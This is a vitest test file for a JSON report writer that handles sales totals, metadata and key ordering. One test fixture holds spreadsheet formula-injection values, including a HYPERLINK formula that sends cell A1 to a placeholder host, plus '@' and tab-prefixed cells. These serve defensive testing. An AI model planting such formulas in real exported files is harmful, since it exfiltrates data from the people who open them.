import { describe, expect, it } from 'vitest';

import { REPORT_JSON_FORMAT, type ReportColumn, writeJson } from '../../../src/reports/render/index.js';
import { FORMULA_TRIGGER_CHARACTERS } from '../../../src/reports/render/values/formula-guard.js';
import { injectionDocument, singleSectionDocument, timezoneDocument } from './support/fixtures.js';
import { renderToBuffer } from './support/output-sink.js';
import { showcaseDocument } from './support/showcase.js';

async function jsonText(document: Parameters<typeof writeJson>[0]): Promise<string> {
  return (await renderToBuffer((out) => writeJson(document, out))).toString('utf8');
}

describe('writeJson', () => {
  it('keeps money in fen next to the column type', async () => {
    const parsed = JSON.parse(await jsonText(timezoneDocument()));
    const section = parsed.sections[0];
    expect(section.columns.map((column: { key: string; type: string }) => [column.key, column.type])).toEqual([
      ['store_code', 'code'],
      ['business_date', 'date'],
      ['last_checkout_at', 'datetime'],
      ['sales', 'money_fen'],
    ]);
    expect(section.rows).toEqual([
      { store_code: '0001', business_date: '2024-01-31', last_checkout_at: '2024-01-31T15:30:00.000Z', sales: 128050 },
      { store_code: '0002', business_date: '2024-02-01', last_checkout_at: '2024-01-31T16:10:00.000Z', sales: 35600 },
    ]);
  });

  it('writes the cover facts and format version', async () => {
    const parsed = JSON.parse(await jsonText(showcaseDocument()));
    expect(parsed.format).toBe(REPORT_JSON_FORMAT);
    expect(parsed.language).toBe('zh-CN');
    expect(parsed.timeZone).toBe('Asia/Shanghai');
    expect(parsed.parameters).toEqual({
      period: { from: '2024-01-01', to: '2024-01-31' },
      stores: 'all',
      generatedAt: '2024-02-01T01:00:00.000Z',
      generatedBy: '王会计 & "财务部"',
    });
    const missing = parsed.kpis.find((kpi: { key: string }) => kpi.key === 'sales_per_labour_hour');
    expect(missing.value).toBeNull();
    expect(missing.note['zh-CN']).toBe('人效需要工时数据，本期间未导入工时。');
    expect(parsed.sections[0].totals).toEqual({
      store_code: null,
      store_name: null,
      dine_in: 31_929_450,
      delivery: 10_244_850,
      refunds: -62_000,
      orders: 42_615,
      margin: null,
    });
  });

  it('orders keys the same whatever order the rows were built in', async () => {
    const columns: ReportColumn[] = [
      { key: 'b', type: 'integer', label: { en: 'B', 'zh-CN': '乙' } },
      { key: 'a', type: 'text', label: { en: 'A', 'zh-CN': '甲' } },
    ];
    const forward = await jsonText(singleSectionDocument(columns, [{ b: 1, a: 'x' }]));
    const backward = await jsonText(singleSectionDocument(columns, [{ a: 'x', b: 1 }]));
    expect(forward).toBe(backward);
    expect(forward).toContain('{"b":1,"a":"x"}');
    expect(Object.keys(JSON.parse(forward))).toEqual([
      'format',
      'language',
      'timeZone',
      'title',
      'subtitle',
      'parameters',
      'kpis',
      'notes',
      'sections',
    ]);
  });

  it('keeps formula-like text and negative numbers unchanged', async () => {
    const parsed = JSON.parse(await jsonText(injectionDocument()));
    expect(parsed.sections[0].rows.map((row: { store_name: string; amount: number }) => [row.store_name, row.amount])).toEqual([
      ['=HYPERLINK("http://example.invalid/?x="&A1,"点我")', -3600],
      ['@门店群', 0],
      ['\tcmd', 1250],
    ]);

    const columns: ReportColumn[] = [{ key: 'value', type: 'text', label: { en: 'V', 'zh-CN': '值' } }];
    const values = FORMULA_TRIGGER_CHARACTERS.map((trigger) => `${trigger}1+1`);
    const rows = JSON.parse(await jsonText(singleSectionDocument(columns, values.map((value) => ({ value }))))).sections[0].rows;
    expect(rows).toEqual(values.map((value) => ({ value })));
  });

  it('writes an empty row list and null totals', async () => {
    const columns: ReportColumn[] = [{ key: 'n', type: 'integer', label: { en: 'N', 'zh-CN': '数' } }];
    const parsed = JSON.parse(await jsonText(singleSectionDocument(columns, [])));
    expect(parsed.sections[0]).toMatchObject({ rows: [], totals: null, charts: [], notes: [] });
  });
});
